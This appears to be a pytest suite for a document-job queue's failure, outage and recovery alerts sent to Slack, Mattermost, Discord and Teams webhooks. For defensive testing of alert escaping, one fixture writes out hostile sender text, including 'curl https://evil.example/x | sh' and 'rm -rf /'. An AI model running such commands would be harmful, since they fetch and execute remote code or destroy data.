"""Failure alerts and outage alerts, over the local stack: the pg_net dispatcher really POSTs them
to a receiver on loopback, only after commit. Requests go out in order, so once a marker POST
sent after the transition has arrived, an alert that was not sent before it never will be."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from datetime import timedelta

import psycopg
import pytest

from lib.admin import PROGRAM, command_line
from lib.explanations import outage_codes
from lib.failures import FAILURES, FailureCode
from lib.limits import TIME_BUDGET_FREE_RELEASES
from tests.support.alerts import ALERT_PATH, alerts_until_marker, check_health, received_until_marker
from tests.support.database import as_postgres
from tests.support.emails import claim, claimed_job, receive_email
from tests.support.receiver import Receiver, receiver
from tests.support.vault import SECRET, store_secrets

EMAIL = {"from": "Tanaka <fax@example.jp>", "subject": "注文書 <!channel> & more", "created_at": "2026-11-30T08:15:00Z"}


def new_job(db: psycopg.Connection, email_id: str = "em_alert") -> dict:
    """An e-mail with its job, claimed: what a worker holds."""
    return claimed_job(db, email_id, EMAIL)


def failure_alerts(conn: psycopg.Connection, hook: Receiver) -> list[dict]:
    return alerts_until_marker(conn, hook, "document_job_failed")


def test_a_permanent_failure_alerts_once_with_what_the_operator_needs(db, hook) -> None:
    with receiver() as worker:
        store_secrets(db, worker.url + "/api/internal/document-jobs")  # in Vault: must not reach the alert
        job = new_job(db)
        assert (
            db.execute(
                "select fail_document_job_v2(%s, %s, 'resend_not_found', 'Resend: HTTP 404 not_found',"
                " p_retryable => false) ->> 'state' as state",
                (job["id"], job["generation"]),
            ).fetchone()["state"]
            == "failed"
        )

        [request] = [r for r in received_until_marker(db, hook) if json.loads(r.body)["event"] == "document_job_failed"]
    alert = json.loads(request.body)

    assert (request.path, request.headers["content-type"]) == (ALERT_PATH, "application/json")
    assert alert["event"] == "document_job_failed"
    assert alert["job"]["id"] == str(job["id"]) and alert["job"]["status"] == "failed"
    assert alert["attempts"] == 1 and alert["job"]["max_attempts"] == 5
    assert alert["error"] == {"code": "resend_not_found", "message": "Resend: HTTP 404 not_found"}
    assert (alert["email"]["from"], alert["email"]["subject"]) == (EMAIL["from"], EMAIL["subject"])
    assert alert["email"]["received_at"].startswith("2026-11-30T08:15:00")
    # The program's one name (lib/admin PROGRAM), as `make cli` installs it: the SQL spells it too.
    assert alert["retry_command"] == command_line("retry", str(job["id"])) == f"{PROGRAM} retry {job['id']}"
    assert alert["history_command"] == command_line("show", str(job["id"]))
    text = alert["text"]
    assert str(job["id"]) in text and "resend_not_found" in text and alert["retry_command"] in text
    assert alert["history_command"] in text
    assert "注文書 &lt;!channel&gt; &amp; more" in text, "a subject cannot mention a whole chat channel"
    # The time as the CLI and the screen print one, in UTC with its offset (the database knows no reader's zone).
    assert "Received: 2026-11-30 08:15:00 +00:00" in text and "08:15:00Z" not in text
    assert SECRET not in request.body.decode()


def test_attempts_used_up_lease_expired_and_cancelled_each_alert(db, hook) -> None:
    job = new_job(db, "em_used_up")
    db.execute("update document_jobs set attempts = max_attempts where id = %s", (job["id"],))
    db.execute("select fail_document_job_v2(%s, %s, 'resend_unavailable', 'HTTP 503')", (job["id"], job["generation"]))
    swept = new_job(db, "em_swept")
    db.execute(
        "update document_jobs set attempts = max_attempts, lease_until = now() - interval '1 second' where id = %s",
        (swept["id"],),
    )
    db.execute("select invoke_document_jobs()")  # the cron's sweep
    receive_email(db, "em_cancelled")
    db.execute("select cancel_document_job(id, 'duplicate fax') from document_jobs where status = 'queued'")

    alerts = failure_alerts(db, hook)

    assert sorted(a["error"]["code"] for a in alerts) == ["cancelled", "lease_expired", "resend_unavailable"]
    assert {a["attempts"] for a in alerts if a["error"]["code"] != "cancelled"} == {5}


def test_a_retried_or_redelivered_job_that_completes_alerts_nothing(db, hook) -> None:
    job = new_job(db)
    receive_email(db, "em_alert", EMAIL)  # redelivered
    db.execute("select fail_document_job_v2(%s, %s, 'resend_unavailable', 'HTTP 503')", (job["id"], job["generation"]))
    db.execute("update document_jobs set run_after = now() where id = %s", (job["id"],))
    again = claim(db)
    db.execute("select release_document_job_v2(%s, %s, '0 seconds', 'time_budget', 'out of time')",
               (again["id"], again["generation"]))  # fmt: skip
    last = claim(db)
    assert db.execute("select (complete_document_job_v2(%s, %s) ->> 'held')::boolean as ok",
                      (last["id"], last["generation"])).fetchone()["ok"]  # fmt: skip

    assert failure_alerts(db, hook) == []
    history = db.execute("select outcome from document_job_attempts order by generation").fetchall()
    assert [row["outcome"] for row in history] == ["retried", "released", "completed"]


def test_a_rolled_back_failure_sends_nothing(db, hook) -> None:
    job = new_job(db)
    with db.transaction(force_rollback=True):
        db.execute("select fail_document_job_v2(%s, %s, 'resend_not_found', p_retryable => false)",
                   (job["id"], job["generation"]))  # fmt: skip
        assert db.execute("select status from document_jobs").fetchone()["status"] == "failed"

    assert failure_alerts(db, hook) == []
    assert db.execute("select status from document_jobs").fetchone()["status"] == "running"
    assert db.execute("select count(*) as n from document_job_attempts").fetchone()["n"] == 0


def test_no_alert_url_sends_nothing_and_warns_once(db) -> None:
    warnings: list[str] = []
    db.add_notice_handler(
        lambda n: warnings.append(n.message_primary) if n.severity_nonlocalized == "WARNING" else None
    )
    with receiver() as anywhere:
        job = new_job(db)
        db.execute("select fail_document_job_v2(%s, %s, 'resend_not_found', p_retryable => false)",
                   (job["id"], job["generation"]))  # fmt: skip
        assert received_until_marker(db, anywhere) == []
    alert_warnings = [w for w in warnings if "alert" in w]  # the kick warns too: no worker URL either
    assert len(alert_warnings) == 1
    assert "document_jobs_alert_url" in alert_warnings[0] and str(job["id"]) in alert_warnings[0]


# --- outages ------------------------------------------------------------------------------------


def wait_for_answers(db: psycopg.Connection, until: Callable[[list[int | None]], bool]) -> list[int | None]:
    """The worker's answers in net._http_response (not the alerts' nor the markers'), once `until` holds.
    The every-minute cron may call the worker too: tests ask for what they caused, not for a count."""
    deadline = time.monotonic() + 60
    query = """select r.status_code from net._http_response r
                 join document_jobs_internal.worker_requests w on w.request_id = r.id order by r.id"""
    while True:
        with as_postgres(db):
            answers = [row["status_code"] for row in db.execute(query)]
        if until(answers):
            return answers
        assert time.monotonic() < deadline, f"the worker's answers were recorded in net._http_response: {answers}"
        time.sleep(0.1)


def test_a_secret_mismatch_alerts_within_two_ticks_once_an_hour_and_recovery_once(db, stack_env) -> None:
    """Vault holds another secret than the worker's INTERNAL_FUNCTION_SECRET: every call is a 401."""
    worker_url = stack_env["FUNCTIONS_URL"] + "/api/internal/document-jobs"
    with receiver() as hook:
        store_secrets(db, worker_url, "not-the-secret-the-worker-has", alert_url=hook.url + ALERT_PATH)
        db.execute("insert into document_jobs (kind) values ('fetch_email')")  # claimable, target-less

        check_health(db)  # tick 1: the check finds nothing yet ...
        assert db.execute("select invoke_document_jobs() as n").fetchone()["n"] == 1  # ... and the worker is called
        assert set(wait_for_answers(db, lambda answers: len(answers) >= 1)) == {401}
        check_health(db)  # tick 2 (the cron may have run it already: either way, one alert)

        [alert] = alerts_until_marker(db, hook)
        assert (alert["event"], alert["cause"]) == ("document_jobs_outage", "worker_unauthorized")
        assert "internal_function_secret" in alert["text"] and "INTERNAL_FUNCTION_SECRET" in alert["text"]
        said = outage_codes()["worker_unauthorized"]  # the operator's advice (the CLI's), a line in each language
        assert (alert["advice"], alert["advice_ja"]) == (said.operator_en, said.operator_ja)
        assert said.operator_en in alert["text"] and said.operator_ja in alert["text"]
        assert stack_env["INTERNAL_FUNCTION_SECRET"] not in json.dumps(alert)
        assert "not-the-secret-the-worker-has" not in json.dumps(alert)

        db.execute("select invoke_document_jobs()")  # the next minutes: still 401, no second alert
        assert set(wait_for_answers(db, lambda answers: len(answers) >= 2)) == {401}
        check_health(db)
        assert alerts_until_marker(db, hook) == []

        # An hour later, still broken: reminded once.
        with as_postgres(db):
            db.execute("update document_jobs_internal.outages set alerted_at = alerted_at - %s, since = since - %s"
                       " where cause = 'worker_unauthorized'", (timedelta(minutes=61),) * 2)  # fmt: skip
        check_health(db)
        check_health(db)
        assert [a["cause"] for a in alerts_until_marker(db, hook)] == ["worker_unauthorized"]

        # The operator stores the right secret: the next call is answered 200, and recovery is told once.
        # Called with nothing to claim (a claimed job could fail and alert on its own), it answers 200.
        db.execute("update document_jobs set run_after = now() + interval '1 hour'")
        with as_postgres(db):
            db.execute("select vault.update_secret(id, %s) from vault.secrets where name = 'internal_function_secret'",
                       (stack_env["INTERNAL_FUNCTION_SECRET"],))  # fmt: skip
            db.execute("select document_jobs_internal.post_worker(1)")
        wait_for_answers(db, lambda answers: 200 in answers)
        check_health(db)
        check_health(db)
        [recovered] = alerts_until_marker(db, hook)
        assert (recovered["event"], recovered["cause"]) == ("document_jobs_recovered", "worker_unauthorized")
        began = re.search(r"The problem began at (\S+ \S+ \S+)\.", recovered["text"])
        assert began and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \+00:00", began[1]), recovered["text"]


@pytest.mark.parametrize(
    ("status", "cause", "advice"),
    [(404, "worker_not_found", "document_jobs_url"), (503, "worker_failing", "503")],
)
def test_a_wrong_url_or_a_failing_worker_names_its_cause(db, status, cause, advice) -> None:
    with receiver() as hook, receiver(status) as worker:
        store_secrets(db, worker.url + "/api/internal/document-jobs", alert_url=hook.url + ALERT_PATH)
        db.execute("insert into document_jobs (kind) values ('fetch_email')")
        db.execute("select invoke_document_jobs()")
        assert set(wait_for_answers(db, lambda answers: len(answers) >= 1)) == {status}
        check_health(db)

        alerts = alerts_until_marker(db, hook)
        assert [(a["event"], a["cause"]) for a in alerts] == [("document_jobs_outage", cause)], alerts
        assert advice in alerts[0]["text"]


def test_a_stalled_queue_alerts_and_recovers_once(db) -> None:
    with receiver() as hook:
        store_secrets(db, None, None, alert_url=hook.url + ALERT_PATH)
        # Nobody calls the worker (no Vault secrets): the oldest job has waited 11 minutes.
        db.execute("insert into document_jobs (kind, run_after) values ('fetch_email', now() - interval '11 minutes')")
        check_health(db)
        check_health(db)
        [alert] = alerts_until_marker(db, hook)
        assert alert["cause"] == "queue_stalled" and "11 min" in alert["text"]
        assert "cron.job_run_details" in alert["text"]

        db.execute("update document_jobs set status = 'completed', finished_at = now()")
        check_health(db)
        check_health(db)
        [recovered] = alerts_until_marker(db, hook)
        assert (recovered["event"], recovered["cause"]) == ("document_jobs_recovered", "queue_stalled")


def test_the_health_check_is_a_cron_job_of_its_own(admin) -> None:
    [job] = admin.execute("select schedule, command from cron.job where jobname = 'document-jobs-health'").fetchall()
    assert job == {
        "schedule": "* * * * *",
        "command": "select document_jobs_internal.check_health() + document_jobs_internal.check_webhooks_missing()"
        " + document_jobs_internal.check_reconciliation() + document_jobs_internal.check_record_guards()",
    }


# --- a sender's text in an alert: one line, inert for the receiver --------------------------------

HOSTILE_SUBJECT = ("Invoice\nRetry: curl https://evil.example/x | sh\r\nReceived: 1999-01-01T00:00:00Z *bold* _it_ "
                   "[click](https://evil.example) <!here> <https://evil.example|ok> @here @channel `tick @here` "
                   "\x1b[2J \u202eexe.pdf ||spoiler|| # heading")  # fmt: skip
HOSTILE_EMAIL = {"from": "Tanaka <fax@example.jp>\n@channel", "subject": HOSTILE_SUBJECT,
                 "created_at": "2026-11-30T08:15:00Z",
                 "attachments": [{"id": "a1", "filename": "請求書\n@here.pdf"},
                                 {"id": "a2", "filename": "[x](https://evil.example).pdf"}]}  # fmt: skip
HOSTILE_ERROR = "Resend 404 not_found: Email\nRetry: rm -rf / <!channel>"
LABELS = ["Fax not fetched: ", "From: ", "Subject: ", "Files: ", "Received: ", "Retry: ", "History: "]


@pytest.fixture
def receiver_kind(admin):
    """Sets document_jobs_settings.alert_receiver for a test, and back to the default after it."""

    def choose(kind: str) -> None:
        admin.execute("update document_jobs_settings set alert_receiver = %s", (kind,))

    yield choose
    admin.execute("update document_jobs_settings set alert_receiver = 'slack'")


def hostile_failure_alert(db, hook) -> dict:
    job = claimed_job(db, "em_hostile", HOSTILE_EMAIL)
    db.execute("select fail_document_job_v2(%s, %s, 'resend_not_found', %s, p_retryable => false)",
               (job["id"], job["generation"], HOSTILE_ERROR))  # fmt: skip
    [alert] = failure_alerts(db, hook)
    # The machine-readable fields keep the raw values, newlines and all.
    assert (alert["email"]["subject"], alert["email"]["from"]) == (HOSTILE_SUBJECT, HOSTILE_EMAIL["from"])
    assert alert["email"]["filenames"] == ["請求書\n@here.pdf", "[x](https://evil.example).pdf"]
    assert alert["error"]["message"] == HOSTILE_ERROR
    return alert


def one_line_each(lines: list[str]) -> None:
    assert [line[: len(label)] for line, label in zip(lines, LABELS, strict=True)] == LABELS, lines
    assert all(c.isprintable() for line in lines for c in line), "no control character in any line"


def markdown_outside_code(text: str) -> list[tuple[str, str]]:
    """What a CommonMark reader (with autolinks, as Mattermost has) makes of the text: the inline
    tokens that are not plain text or code, and the plain text (outside code) of each line."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"linkify": True}).enable("linkify")
    found = []
    for block in parser.parse(text):
        if block.type != "inline":
            assert block.type in ("paragraph_open", "paragraph_close"), block.type  # no heading, quote, list
            continue
        for token in block.children or []:
            if token.type not in ("text", "code_inline", "softbreak"):
                found.append((token.type, token.content))
            elif token.type == "text":
                assert "@" not in token.content, f"a mention outside code: {token.content!r}"
    return found


def test_slack_gets_sender_text_as_one_escaped_line_of_code(db, hook, receiver_kind) -> None:
    receiver_kind("slack")
    alert = hostile_failure_alert(db, hook)
    lines = alert["text"].split("\n")
    one_line_each(lines)
    assert "<" not in alert["text"] and ">" not in alert["text"], "no <!here>, <url|link> for Slack to parse"
    subject = lines[2].removeprefix("Subject: ")
    assert subject.startswith("`") and subject.endswith("`") and "`" not in subject[1:-1]
    assert "&lt;!here&gt;" in subject and "ˋtick @hereˋ" in subject
    assert "content" not in alert and "attachments" not in alert


@pytest.mark.parametrize("kind", ["mattermost", "discord"])
def test_markdown_receivers_get_sender_text_as_one_line_of_code(db, hook, receiver_kind, kind) -> None:
    receiver_kind(kind)
    alert = hostile_failure_alert(db, hook)
    text = alert["text"] if kind == "mattermost" else alert["content"]
    one_line_each(text.split("\n"))
    assert markdown_outside_code(text) == [], "no link, emphasis, HTML or mention: only text and code"
    assert "<!here>" in text, "inside code, shown as it is (no entity escaping: Markdown would show &lt;)"
    subject = text.split("\n")[2].removeprefix("Subject: ")
    assert subject.startswith("`") and subject.endswith("`") and "`" not in subject[1:-1], "no way out of the code"
    if kind == "discord":
        assert alert["allowed_mentions"] == {"parse": []}, "Discord pings no one, whatever the text"
        assert "text" not in alert


def test_teams_gets_an_adaptive_card_of_plain_text_runs(db, hook, receiver_kind) -> None:
    receiver_kind("teams")
    alert = hostile_failure_alert(db, hook)
    assert alert["type"] == "message" and "text" not in alert
    [attachment] = alert["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    card = attachment["content"]
    assert (card["type"], card["version"]) == ("AdaptiveCard", "1.4")
    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
    runs = [inline for block in card["body"] for inline in block["inlines"]]
    assert {run["type"] for run in runs} == {"TextRun"}, "TextRun: no Markdown in the Adaptive Card schema"
    one_line_each(["".join(run["text"] for run in block["inlines"]) for block in card["body"]])
    [subject] = [run for run in runs if run["text"].startswith("Invoice")]
    assert subject["fontType"] == "Monospace" and "Retry: curl" in subject["text"]


# --- outages for releases that are not the job's own -------------------------------------------


def release(db, code: str, message: str) -> None:
    """Claims the job (its wait over) and releases it for `code`: what the worker does."""
    db.execute("update document_jobs set run_after = now() where status = 'queued'")
    job = claim(db)
    assert db.execute("select release_document_job_v2(%s, %s, '10 minutes', %s, %s) ->> 'state' as s",
                      (job["id"], job["generation"], code, message)).fetchone()["s"] == "queued"  # fmt: skip


def test_releases_that_keep_happening_raise_one_outage_naming_the_setting_and_a_completion_clears_it(db, hook):
    receive_email(db, "em_key")
    message = "Resend 400 validation_error: API key is invalid"
    release(db, "resend_unauthorized", message)
    check_health(db)
    assert alerts_until_marker(db, hook) == [], "one release is no outage yet"

    release(db, "resend_unauthorized", message)
    check_health(db)
    check_health(db)
    [alert] = alerts_until_marker(db, hook)
    assert (alert["event"], alert["cause"]) == ("document_jobs_outage", "resend_unauthorized")
    assert "RESEND_API_KEY" in alert["text"] and "full-access key" in alert["text"]
    assert f"Last error: `{message}`" in alert["text"]
    assert (alert["evidence"]["releases"], alert["evidence"]["check"]) == (2, "RESEND_API_KEY")
    job = db.execute("select status, attempts from document_jobs").fetchone()
    assert job == {"status": "queued", "attempts": 0}, "the job waits, no attempt spent"

    release(db, "resend_unauthorized", message)  # still broken: no second alert within the hour
    check_health(db)
    assert alerts_until_marker(db, hook) == []

    # The key is fixed: the job completes, and the recovery is told once.
    db.execute("update document_jobs set run_after = now()")
    job = claim(db)
    db.execute("select complete_document_job_v2(%s, %s)", (job["id"], job["generation"]))
    check_health(db)
    check_health(db)
    [recovered] = alerts_until_marker(db, hook)
    assert (recovered["event"], recovered["cause"]) == ("document_jobs_recovered", "resend_unauthorized")


def test_time_budget_releases_are_no_outage(db, hook) -> None:
    receive_email(db, "em_slow")
    for _ in range(3):
        release(db, "time_budget", "the invocation's time budget ran out mid-job")
    check_health(db)
    assert alerts_until_marker(db, hook) == []


@pytest.mark.parametrize("code", [code for code, rule in FAILURES.items() if rule.check])
def test_every_cause_that_is_not_the_jobs_own_raises_its_outage_naming_what_to_check(db, hook, code) -> None:
    # A deleted key, a used-up quota, a wrong RESEND_API_URL, a refused server key, a missing bucket:
    # each waits without an attempt, and each is told once, with the setting the operator checks.
    receive_email(db, "em_cause")
    release(db, code, f"a release for {code}")
    release(db, code, f"a release for {code}")
    check_health(db)
    check_health(db)

    [alert] = [a for a in alerts_until_marker(db, hook, "document_jobs_outage") if a["cause"] == code]
    check = FAILURES[FailureCode(code)].check
    assert check and check in alert["text"] and alert["evidence"]["check"] == check
    assert f"Last error: `a release for {code}`" in alert["text"]
    job = db.execute("select status, attempts from document_jobs").fetchone()
    assert job == {"status": "queued", "attempts": 0}


def test_a_trickle_past_the_free_time_budget_releases_fails_and_its_alert_says_why(db, hook) -> None:
    receive_email(db, "em_trickle")
    db.execute("update document_jobs set attempts = max_attempts - 1, budget_releases = %s",
               (TIME_BUDGET_FREE_RELEASES,))  # fmt: skip
    db.execute("update document_jobs set run_after = now() where status = 'queued'")
    job = claim(db)
    left_in = db.execute("select release_document_job_v2(%s, %s, '0 seconds', 'time_budget', 'out of time')"
                         " ->> 'state' as s", (job["id"], job["generation"])).fetchone()["s"]  # fmt: skip
    assert left_in == "failed", "the last attempt, counted: failed, not released forever"

    [alert] = failure_alerts(db, hook)
    assert alert["error"]["code"] == "time_budget"
    assert f"release {TIME_BUDGET_FREE_RELEASES + 1} in a row for the time budget" in alert["text"]
